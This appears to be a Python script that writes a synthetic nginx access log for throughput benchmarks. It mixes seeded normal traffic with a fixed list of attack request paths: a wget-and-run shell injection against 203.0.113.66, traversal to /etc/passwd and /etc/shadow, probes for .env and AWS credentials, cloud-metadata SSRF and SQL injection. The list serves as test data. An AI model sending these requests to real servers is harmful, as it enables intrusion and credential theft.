#!/usr/bin/env python3
"""Write a synthetic nginx access log (combined format) for extraction throughput benchmarks.

Usage: gen_access_log.py SIZE_MIB OUT [--seed N]

The log is SIZE_MIB mebibytes (2**20 bytes), rounded down to a whole line, and the same
seed always gives the same bytes. Clients come from the documentation networks
192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and 2001:db8::/32 and from 10.0.0.0/8;
every host name is a subdomain of example.com, example.net or example.org. Timestamps
increase by one second every 20 lines on average.

Each field is drawn from a fixed pool built once from the seed, so the number of distinct
indicators in the log stops growing after the first few mebibytes. A larger log therefore
has more lines but not more distinct values, and a growing memory figure across sizes
points at the reader, not at the set of values it keeps. Lines are built in blocks of
BLOCK_LINES and written with one call per block, which writes 1 GiB in well under a minute
on one core.
"""

from __future__ import annotations

import argparse
import random
import sys
from datetime import datetime, timedelta, timezone
from itertools import accumulate

BLOCK_LINES = 20_000
LINES_PER_SECOND = 20
START_TIME = datetime(2026, 11, 2, 6, 0, 0, tzinfo=timezone.utc)
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

DOMAINS = ["example.com", "example.net", "example.org"]
SUBDOMAINS = ["www", "shop", "news", "blog", "mail", "cdn", "static", "api", "forum", "m"]
WORDS = [
    "alpha", "bravo", "cart", "checkout", "delta", "docs", "echo", "faq", "gallery", "help",
    "images", "kilo", "login", "media", "news", "orders", "profile", "report", "search",
    "settings", "support", "tango", "upload", "video", "wiki", "zulu",
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.com/about)",
    "Mozilla/5.0 (compatible; CrawlerExample/1.0; +http://crawler.example.net/info.html)",
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "sqlmap/1.8.11#stable (https://sqlmap.example.org)",
    "zgrab/0.x",
    "-",
]
USER_AGENT_WEIGHTS = [30, 18, 12, 8, 10, 8, 4, 2, 2, 1, 2, 1, 0.3, 0.5, 1]

ATTACK_PATHS = [
    "/wp-login.php",
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/cgi-bin/../../../../bin/sh",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
    "/redirect?url=http://evil.example.net/x",
    "/proxy?url=http://198.51.100.77:8080/payload",
    "/login?next=https://phish.example.org/account/verify",
    "/shell?cd+/tmp;wget+http://203.0.113.66/bins/x86.sh;sh+x86.sh",
    "/api/fetch?target=http://10.0.0.5/latest/meta-data/",
    "/search?q=%27%20OR%201=1--",
    "/download?file=../../../../etc/shadow",
    "/actuator/env",
    "/solr/admin/cores?action=STATUS",
]


def format_timestamp(moment: datetime) -> str:
    """Format a UTC time as nginx writes $time_local, independent of the locale."""
    return (
        f"{moment.day:02d}/{MONTHS[moment.month - 1]}/{moment.year}:"
        f"{moment.hour:02d}:{moment.minute:02d}:{moment.second:02d} +0000"
    )


def make_clients(rng: random.Random) -> tuple[list[str], list[float]]:
    """Build about 3,000 client addresses and cumulative weights that make a few very busy."""
    clients = []
    for network in ("192.0.2", "198.51.100", "203.0.113"):
        clients += [f"{network}.{host}" for host in range(1, 255)]
    private = set()
    while len(private) < 2_000:
        private.add(f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}")
    clients += sorted(private)
    for _ in range(300):
        clients.append(f"2001:db8:{rng.randrange(1, 0x10000):x}::{rng.randrange(1, 0x10000):x}")
    rng.shuffle(clients)
    # Zipf-like: the client at rank r gets weight 1/(r+10), so the busiest send a few per cent.
    weights = [1.0 / (rank + 10) for rank in range(len(clients))]
    return clients, list(accumulate(weights))


def make_paths(rng: random.Random) -> tuple[list[str], list[float]]:
    """Build request paths with query strings and weights that make one request in 61 an attack."""
    paths = ["/", "/favicon.ico", "/robots.txt", "/index.html"]
    for _ in range(4_000):
        shape = rng.randrange(6)
        word, other = rng.choice(WORDS), rng.choice(WORDS)
        if shape == 0:
            paths.append(f"/{word}/{other}/{rng.randrange(1, 100_000)}")
        elif shape == 1:
            paths.append(f"/search?q={word}+{other}&page={rng.randrange(1, 20)}")
        elif shape == 2:
            paths.append(f"/static/js/{word}.{rng.getrandbits(32):08x}.js")
        elif shape == 3:
            paths.append(f"/api/v1/{word}?id={rng.randrange(1, 1_000_000)}&sort={other}")
        elif shape == 4:
            paths.append(f"/images/{word}-{rng.randrange(1, 500)}.png")
        else:
            paths.append(f"/{word}.php?session={rng.getrandbits(48):012x}&lang=en")
    weights = [1.0] * len(paths)
    weights[:4] = [300.0, 80.0, 20.0, 100.0]
    normal_total = sum(weights)
    for attack in ATTACK_PATHS:
        paths.append(attack)
        weights.append(normal_total / 60 / len(ATTACK_PATHS))
    return paths, list(accumulate(weights))


def make_referrers(rng: random.Random) -> tuple[list[str], list[float]]:
    """Build referrer URLs on example.* subdomains, with weights that give "-" to half the lines."""
    referrers = ["-"]
    for _ in range(2_000):
        scheme = "https" if rng.random() < 0.8 else "http"
        host = f"{rng.choice(SUBDOMAINS)}.{rng.choice(DOMAINS)}"
        word = rng.choice(WORDS)
        if rng.random() < 0.5:
            referrers.append(f"{scheme}://{host}/{word}/")
        else:
            referrers.append(f"{scheme}://{host}/{word}?ref={rng.randrange(1, 10_000)}")
    weights = [len(referrers) - 1.0] + [1.0] * (len(referrers) - 1)
    return referrers, list(accumulate(weights))


def write_log(size_mib: int, out, seed: int) -> int:
    """Write the log to the binary stream out and return the number of bytes written."""
    rng = random.Random(seed)
    clients, client_weights = make_clients(rng)
    paths, path_weights = make_paths(rng)
    referrers, referrer_weights = make_referrers(rng)
    agents, agent_weights = USER_AGENTS, list(accumulate(USER_AGENT_WEIGHTS))
    methods, method_weights = ["GET", "POST", "HEAD"], list(accumulate([85, 12, 3]))
    statuses = ["200", "301", "302", "304", "400", "403", "404", "500", "502"]
    status_weights = list(accumulate([70, 3, 4, 8, 1, 2, 10, 1, 1]))
    sizes = [str(rng.randrange(100, 60_000)) for _ in range(5_000)] + ["0"] * 200

    target = size_mib * 1024 * 1024
    written = 0
    line_number = 0
    while written < target:
        count = BLOCK_LINES
        ips = rng.choices(clients, cum_weights=client_weights, k=count)
        requests = rng.choices(paths, cum_weights=path_weights, k=count)
        verbs = rng.choices(methods, cum_weights=method_weights, k=count)
        codes = rng.choices(statuses, cum_weights=status_weights, k=count)
        lengths = rng.choices(sizes, k=count)
        refs = rng.choices(referrers, cum_weights=referrer_weights, k=count)
        uas = rng.choices(agents, cum_weights=agent_weights, k=count)

        first_second = line_number // LINES_PER_SECOND
        stamps = [
            format_timestamp(START_TIME + timedelta(seconds=first_second + offset))
            for offset in range(count // LINES_PER_SECOND + 1)
        ]
        lines = [
            f'{ip} - - [{stamps[i // LINES_PER_SECOND]}] "{verb} {path} HTTP/1.1" {code} {length} '
            f'"{ref}" "{ua}"\n'
            for i, (ip, verb, path, code, length, ref, ua) in enumerate(
                zip(ips, verbs, requests, codes, lengths, refs, uas)
            )
        ]
        line_number += count

        block = "".join(lines).encode("ascii")
        if written + len(block) > target:
            cut = block.rfind(b"\n", 0, target - written) + 1
            block = block[:cut]
            if not block:
                break
        out.write(block)
        written += len(block)
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("size_mib", type=int, metavar="SIZE_MIB", help="size of the log in MiB")
    parser.add_argument("out", metavar="OUT", help="file to write, or - for standard output")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    args = parser.parse_args()
    if args.size_mib < 1:
        parser.error(f"SIZE_MIB must be at least 1, got {args.size_mib}")

    if args.out == "-":
        written = write_log(args.size_mib, sys.stdout.buffer, args.seed)
    else:
        with open(args.out, "wb") as out:
            written = write_log(args.size_mib, out, args.seed)
    print(f"wrote {written} bytes to {args.out}", file=sys.stderr)


if __name__ == "__main__":
    main()
